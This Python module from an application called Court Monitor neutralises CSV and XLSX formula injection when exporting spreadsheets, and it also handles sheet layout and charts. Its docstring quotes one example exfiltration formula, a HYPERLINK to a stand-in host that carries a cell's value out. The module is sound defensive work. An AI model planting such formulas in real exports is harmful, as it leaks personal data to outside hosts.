"""The only way Court Monitor writes CSV and XLSX cells: text a spreadsheet would run as a formula is
neutralised ("CSV injection", OWASP), numbers stay numbers.

A case reference, court name or username typed as `=HYPERLINK("http://x.example/?c="&B2,"Open")`
would otherwise become a live formula in the file a manager opens, beside dates of birth. Text
starting with `=`, `+`, `-`, `@`, a tab or a carriage return is written as text: in CSV with a
leading `'` (which spreadsheet programs hide and treat as "this is text"), in XLSX as an explicit
string cell marked with Excel's quote prefix (it stays text even when edited).

Writers never call the `csv` module, openpyxl or XlsxWriter themselves
(tests/security/test_spreadsheet_cells.py checks the imports), so a writer added later cannot forget
this. openpyxl and XlsxWriter are imported by the functions that write a workbook, not at the top:
every `flask` command and server start imports this module."""
import csv
import numbers
import re
from collections.abc import Iterable
from pathlib import Path

#: First characters that make Excel, LibreOffice or Google Sheets read a cell as a formula (or DDE).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
#: A number written as text ("-3", "+2.5", "1e-3") is a value, not a formula: it stays as it is.
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


_FIRST_CHARACTERS = frozenset(FORMULA_STARTS)


def is_formula_like(value) -> bool:
    """Text a spreadsheet program would evaluate instead of showing. (Written for speed: it runs for
    every cell of an export, most of them plain answers.)"""
    return (value.__class__ is str and value[:1] in _FIRST_CHARACTERS
            and _PLAIN_NUMBER.fullmatch(value) is None)


def csv_cell(value):
    """A value as a safe CSV cell: formula-like text gets a leading `'`; everything else is unchanged."""
    if is_formula_like(value):
        return "'" + value
    return value


def csv_cells(row: Iterable) -> list:
    """`csv_cell` of every value of a row, in one pass (an export writes millions of cells)."""
    return [("'" + value if value.__class__ is str and value[:1] in _FIRST_CHARACTERS
             and _PLAIN_NUMBER.fullmatch(value) is None else value) for value in row]


class CsvWriter:
    """`csv.writer` whose every cell goes through `csv_cell`."""

    def __init__(self, stream, **options):
        self._writer = csv.writer(stream, **options)

    def writerow(self, row: Iterable) -> None:
        self._writer.writerow(csv_cells(row))

    def writerows(self, rows: Iterable[Iterable]) -> None:
        for row in rows:
            self.writerow(row)


def new_workbook():
    """A write-only openpyxl Workbook (rows stream to temporary XML, memory stays flat); fill it with `append_row`."""
    from openpyxl import Workbook

    return Workbook(write_only=True)


def xlsx_cell(sheet, value, *, bold: bool = False, number_format: str | None = None, size: float | None = None,
              wrap: bool = False, color: str | None = None):
    """A value as a safe XLSX cell: formula-like text becomes an explicit string cell with the quote
    prefix; numbers, dates and other text pass through (openpyxl writes them as they are). The
    keywords style the cell (bold, a number format such as "0.0%", a font size, wrapped text, a colour)."""
    styled = bold or number_format or size or wrap or color
    if not (styled or is_formula_like(value)):
        return value
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Alignment, Font

    cell = WriteOnlyCell(sheet, value=value)
    if is_formula_like(value):
        cell.data_type = "s"  # openpyxl made it a formula ("f") because it starts with "="
        cell.quotePrefix = True
    if bold or size or color:
        cell.font = Font(bold=bold, size=size, color=color)
    if number_format:
        cell.number_format = number_format
    if wrap:
        cell.alignment = Alignment(wrap_text=True, vertical="top")
    return cell


def append_row(sheet, values: Iterable, *, bold: bool = False, styles: Iterable[dict | None] | None = None, **style) -> None:
    """Append one row of values to a write-only sheet, every cell through `xlsx_cell`. `style`
    applies to every cell; `styles`, one dict (or None) per value, adds to it cell by cell."""
    values = list(values)
    per_cell = list(styles) if styles is not None else [None] * len(values)
    sheet.append([xlsx_cell(sheet, value, bold=bold, **{**style, **(extra or {})})
                  for value, extra in zip(values, per_cell)])


# --- a workbook as a publication: layout and native charts ---------------------------------------

#: Excel refuses sheet names over 31 characters, with any of []:*?/\ , or equal to another (case aside).
SHEET_NAME_LIMIT = 31
_FORBIDDEN_IN_SHEET_NAMES = "[]:*?/\\"


def sheet_name(title: str, taken: set[str]) -> str:
    """A readable sheet name within Excel's 31 characters, unique in the workbook (`taken`, which is
    updated): cut at a word boundary rather than mid-word, never leaving a Khmer sign without its letter."""
    cleaned = " ".join("".join(" " if ch in _FORBIDDEN_IN_SHEET_NAMES else ch for ch in title).split()) or "Sheet"
    name = _shortened(cleaned, SHEET_NAME_LIMIT)
    number = 2
    while name.casefold() in taken:
        suffix = f" ({number})"
        name = _shortened(cleaned, SHEET_NAME_LIMIT - len(suffix)) + suffix
        number += 1
    taken.add(name.casefold())
    return name


def _shortened(text: str, limit: int) -> str:
    if len(text) <= limit:
        return text
    cut = text[:limit + 1]
    if " " in cut[1:]:
        return cut[:cut.rindex(" ")].rstrip()
    cut = text[:limit]
    # Khmer: a coeng (U+17D2) needs the letter after it; a dependent vowel or sign needs the one before.
    while cut and (cut[-1] == "\u17d2" or "\u17b6" <= text[len(cut)] <= "\u17d3"):
        cut = cut[:-1]
    return cut


def lay_out(sheet, widths: list[float], *, header_row: int | None = None, last_row: int | None = None) -> None:
    """Column widths (in characters), and a frozen, filterable header row over the rows up to `last_row`.
    Call before appending rows: a write-only sheet writes its layout first."""
    from openpyxl.utils import get_column_letter

    for index, width in enumerate(widths, start=1):
        sheet.column_dimensions[get_column_letter(index)].width = width
    if header_row is not None:
        sheet.freeze_panes = f"A{header_row + 1}"
        sheet.auto_filter.ref = f"A{header_row}:{get_column_letter(len(widths))}{max(last_row or header_row, header_row)}"


def fitted_widths(rows: list[list], *, minimum: float = 6, maximum: float = 60) -> list[float]:
    """A width per column that fits its longest value (text of a cell, or a number as written)."""
    columns = max((len(row) for row in rows), default=0)
    widths = []
    for index in range(columns):
        longest = max((len(_shown(row[index])) for row in rows if index < len(row)), default=0)
        widths.append(min(max(longest + 2, minimum), maximum))
    return widths


def _shown(value) -> str:
    if value is None:
        return ""
    if isinstance(value, float):
        return f"{value:.1f}"
    return str(value)


def add_bar_chart(sheet, *, title: str, first_row: int, last_row: int, label_column: int, value_column: int,
                  anchor: str, percent: bool) -> None:
    """A native Excel bar chart of the values in `value_column` (rows first_row..last_row of this
    sheet), labelled by `label_column`: it stays live when a reader sorts or edits the figures."""
    from openpyxl.chart import BarChart, Reference
    from openpyxl.chart.label import DataLabelList

    chart = BarChart()
    chart.type = "bar"
    chart.style = 10
    chart.title = title
    chart.legend = None
    chart.height = max(6.0, 1.1 * (last_row - first_row + 1) + 3)
    chart.width = 22
    values = Reference(sheet, min_col=value_column, min_row=first_row, max_row=last_row)
    labels = Reference(sheet, min_col=label_column, min_row=first_row, max_row=last_row)
    chart.add_data(values, titles_from_data=False)
    chart.set_categories(labels)
    chart.x_axis.scaling.orientation = "maxMin"  # first figure on top, as in the table
    chart.y_axis.majorGridlines = None
    chart.y_axis.number_format = "0%" if percent else "#,##0"
    if percent:
        chart.y_axis.scaling.min = 0
        chart.y_axis.scaling.max = 1
    chart.x_axis.delete = False
    chart.y_axis.delete = False
    chart.dataLabels = DataLabelList()
    chart.dataLabels.showVal = True
    chart.dataLabels.numFmt = "0.0%" if percent else "#,##0"
    sheet.add_chart(chart, anchor)


class StreamedWorkbook:
    """An XLSX written row by row with XlsxWriter's constant-memory mode, for exports of any size:
    each row goes to a temporary file as soon as the next one starts, and the cells are written
    by type without building a cell object each (a third less CPU than openpyxl's write-only
    mode for the raw export; docs/benchmarks.md).

    XlsxWriter turns text that starts with `=` into a formula and text that looks like an address
    into a link unless told not to; both are off here, and formula-like text is written as a
    string with the quote prefix, as `xlsx_cell` does with openpyxl. Close it (or use `with`)."""

    def __init__(self, path: Path):
        import xlsxwriter

        self._workbook = xlsxwriter.Workbook(str(path), {
            "constant_memory": True, "strings_to_formulas": False, "strings_to_urls": False,
            "strings_to_numbers": False,
        })
        add_format = self._workbook.add_format
        #: (bold, quoted) -> format; None is the default cell format.
        self._formats = {(False, False): None, (False, True): add_format({"quote_prefix": True}),
                         (True, False): add_format({"bold": True}),
                         (True, True): add_format({"bold": True, "quote_prefix": True})}

    def add_sheet(self, name: str) -> "StreamedSheet":
        return StreamedSheet(self._workbook.add_worksheet(name), self._formats)

    def close(self) -> None:
        self._workbook.close()

    def __enter__(self) -> "StreamedWorkbook":
        return self

    def __exit__(self, *exc_info) -> None:
        self.close()


class StreamedSheet:
    """One sheet of a `StreamedWorkbook`; rows are appended in order."""

    def __init__(self, worksheet, formats: dict):
        self._worksheet = worksheet
        self._formats = formats
        self._row = 0

    def append_row(self, values: Iterable, *, bold: bool = False) -> None:
        """Text as text (formula-like text quoted), numbers as numbers, booleans as booleans; None
        and empty text leave the cell empty; anything else (a date) is written as its text."""
        worksheet, row = self._worksheet, self._row
        write_string, write_number = worksheet.write_string, worksheet.write_number
        plain, quoted = self._formats[bold, False], self._formats[bold, True]
        for column, value in enumerate(values):
            kind = value.__class__
            if kind is str:
                if value:
                    write_string(row, column, value, quoted if value[:1] in _FIRST_CHARACTERS
                                 and _PLAIN_NUMBER.fullmatch(value) is None else plain)
            elif kind is int or kind is float:
                write_number(row, column, value, plain)
            elif value is None:
                continue
            elif kind is bool:
                worksheet.write_boolean(row, column, value, plain)
            elif isinstance(value, numbers.Real):
                write_number(row, column, float(value), plain)
            else:
                text = value.isoformat() if hasattr(value, "isoformat") else str(value)
                write_string(row, column, text, quoted if is_formula_like(text) else plain)
        self._row = row + 1
